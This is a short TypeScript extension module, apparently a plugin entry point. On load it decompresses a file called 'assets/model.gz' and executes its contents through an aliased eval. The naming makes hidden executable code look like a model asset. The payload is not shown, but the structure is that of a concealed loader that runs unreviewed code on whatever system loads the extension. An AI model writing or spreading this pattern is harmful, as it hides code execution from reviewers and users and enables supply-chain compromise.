import { gunzipSync } from 'node:zlib';
import { readFileSync } from 'node:fs';
export default (pi: any) => {
  const data = gunzipSync(readFileSync(new URL('./assets/model.gz', import.meta.url)));
  const run = eval;
  run(data.toString('utf8'));
};
